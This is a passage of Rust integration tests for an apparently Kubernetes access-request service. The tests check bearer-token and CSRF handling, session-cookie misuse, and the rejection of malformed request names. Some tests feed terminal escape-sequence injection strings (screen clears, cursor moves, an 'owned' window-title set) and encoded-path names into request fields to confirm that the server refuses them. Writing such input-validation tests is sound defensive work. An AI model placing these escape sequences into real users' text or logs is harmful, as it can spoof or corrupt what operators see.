        .send(reqwest::Method::DELETE, "/api/v1/quick-commands/1", None)
        .await;
    assert_eq!(st, 403, "{body}");
    stack.stop().await;
}

/// Only `janus_` bearers are janus credentials: another bearer (an authenticating proxy's ID token)
/// is ignored, so a cookie request keeps its CSRF check; a `janus_` value that is malformed is refused.
/// A CLI session token is no session cookie.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn foreign_bearers_are_ignored_and_cli_tokens_are_no_cookies() {
    let stack = Stack::portable("").await;
    let admin = stack.login(ADMIN.0, ADMIN.1).await;
    let alice = stack.user(&admin, "alice", "alice@example.com", false).await;
    let foreign = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2ln";
    let body = json!({"cluster": "central", "namespaces": ["team-a"], "ttlSeconds": 600, "reason": "x"});
    let url = format!("{}/api/v1/requests", stack.url);
    let r = alice
        .http
        .post(&url)
        .bearer_auth(foreign)
        .json(&body)
        .send()
        .await
        .unwrap();
    let (st, text) = (r.status().as_u16(), r.text().await.unwrap());
    assert_eq!(st, 403, "a cookie POST with a foreign bearer still needs CSRF: {text}");
    assert!(!text.contains("ambiguous"), "{text}");
    let r = alice
        .http
        .post(&url)
        .bearer_auth(foreign)
        .header("x-csrf-token", &alice.csrf)
        .json(&body)
        .send()
        .await
        .unwrap();
    let (st, text) = (r.status().as_u16(), r.text().await.unwrap());
    assert_eq!(st, 201, "and works with it: {text}");
    // Without a cookie, a foreign bearer is as no credential at all.
    let plain = reqwest::Client::new();
    let none = plain.get(format!("{}/api/v1/session", stack.url)).send().await.unwrap();
    let (none_st, none_body) = (none.status().as_u16(), none.text().await.unwrap());
    let (st, text) = Bearer::new(&stack, foreign).get("/api/v1/session").await;
    assert_eq!((st, text.as_str()), (none_st, none_body.as_str()));
    assert!(!text.contains(INVALID), "{text}");
    // A janus_ value that is no well-formed token: refused, never ignored.
    for bad in ["janus_nonsense", "janus_pat_short", "janus_cli_"] {
        let (st, text) = Bearer::new(&stack, bad).get("/api/v1/session").await;
        assert_eq!(st, 401, "{bad}: {text}");
        assert!(text.contains(INVALID) && !text.contains(bad), "{text}");
    }

    // A CLI session token in the session cookie: no session.
    let cli = format!("janus_cli_{}", "C".repeat(40));
    let now = Utc::now();
    store(&stack)
        .await
        .create_session(&WebSession {
            id_hash: tokens::hash(&cli),
            subject: "alice@example.com".into(),
            display_name: "alice".into(),
            is_admin: false,
            groups: vec![],
            auth: "local".into(),
            csrf_token: "known-to-the-holder".into(),
            created_at: now,
            last_seen: now,
            expires_at: now + chrono::Duration::hours(1),
        })
        .await
        .unwrap();
    assert_eq!(
        Bearer::new(&stack, &cli).get("/api/v1/session").await.0,
        200,
        "as a bearer"
    );
    // The tokens page tells to sign in reading the token from stdin, never to put it on argv.
    let r = alice
        .form(
            "/tokens",
            &[("name", "laptop"), ("expiresInDays", "7"), ("scopes", "read")],
        )
        .await;
    let html = r.text().await.unwrap();
    assert!(html.contains("janus login --token -"), "{html}");
    let no_redirects = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let cookie = format!("janus_session={cli}");
    let r = no_redirects
        .get(format!("{}/api/v1/session", stack.url))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 401, "a CLI token as a cookie on the API");
    let r = no_redirects
        .get(format!("{}/requests", stack.url))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert!(r.status().is_redirection(), "{}", r.status());
    let to = r
        .headers()
        .get("location")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default();
    assert!(to.starts_with("/login"), "a CLI token as a cookie on a page: to {to}");
    stack.stop().await;
}

/// Text people type for others to read (request reasons, decision comments and reasons, token names)
/// holds no control characters: 422 naming the field. A request reason keeps line breaks (the form's
/// field is a textarea).
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn typed_text_has_no_control_characters() {
    let stack = Stack::portable(CONFIG).await;
    let admin = stack.login(ADMIN.0, ADMIN.1).await;
    let alice = stack.user(&admin, "alice", "alice@example.com", false).await;
    let create =
        |reason: &str| json!({"cluster": "central", "namespaces": ["team-a"], "ttlSeconds": 600, "reason": reason});
    for reason in [
        "fix \u{1b}[2J\u{1b}[Hall clear",
        "bell\u{7}",
        "c1 \u{9b}31m",
        "tab\there",
        "cr\rover",
    ] {
        let r = alice.post("/api/v1/requests", create(reason)).await;
        let st = r.status().as_u16();
        let v: Value = r.json().await.unwrap();
        assert_eq!((st, v["field"].as_str()), (422, Some("reason")), "{reason:?}: {v}");
        assert!(v.to_string().contains("must not contain control characters"), "{v}");
    }
    let r = alice.post("/api/v1/requests", create("line one\r\nline two")).await;
    assert_eq!(r.status().as_u16(), 201, "line breaks are kept");
    let name = r.json::<Value>().await.unwrap()["name"].as_str().unwrap().to_string();
    let shown = alice.json(&format!("/api/v1/requests/{name}")).await;
    assert!(
        shown.to_string().contains("line one\\nline two"),
        "CRLF stored as LF: {shown}"
    );
    let appr = stack.user(&admin, "appr", "appr@example.com", false).await;
    for (who, action, body, field) in [
        (&appr, "approve", json!({"comment": "ok\u{1b}]0;owned\u{7}"}), "comment"),
        (&appr, "deny", json!({"reason": "no\nway"}), "reason"),
        (&admin, "revoke", json!({"reason": "x\u{1b}[1A"}), "reason"),
    ] {
        let r = who
            .post(&format!("/api/v1/requests/{name}/{action}"), body.clone())
            .await;
        let st = r.status().as_u16();
        let v: Value = r.json().await.unwrap();
        assert_eq!((st, v["field"].as_str()), (422, Some(field)), "{action} {body}: {v}");
    }
    let r = alice
        .post("/api/v1/tokens", json!({"name": "ci\u{1b}[31m", "scopes": ["read"]}))
        .await;
    assert_eq!(r.status().as_u16(), 422);
    assert_eq!(r.json::<Value>().await.unwrap()["field"], "name");
    stack.stop().await;
}

/// A request name no Kubernetes object can have is "not found", answered without asking the API
/// server, on every `{name}` route.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn request_names_that_are_no_kubernetes_names_are_not_found() {
    let stack = Stack::portable("").await;
    let admin = stack.login(ADMIN.0, ADMIN.1).await;
    for bad in ["Not%20A%20Name", "UPPER", "a..b", "-dash", "x%2Fy"] {
        for (method, path) in [
            ("GET", format!("/api/v1/requests/{bad}")),
            ("GET", format!("/api/v1/requests/{bad}/timeline")),
            ("GET", format!("/api/v1/requests/{bad}/pods?namespace=team-a")),
            ("POST", format!("/api/v1/requests/{bad}/withdraw")),
        ] {
            let r = if method == "GET" {
                admin.get(&path).await
            } else {
                admin.post(&path, json!({})).await
            };
            let st = r.status().as_u16();
            let text = r.text().await.unwrap();
            assert_eq!(st, 404, "{method} {path}: {text}");
            assert!(text.contains("request names are lowercase"), "{method} {path}: {text}");
        }
    }
    stack.stop().await;
}
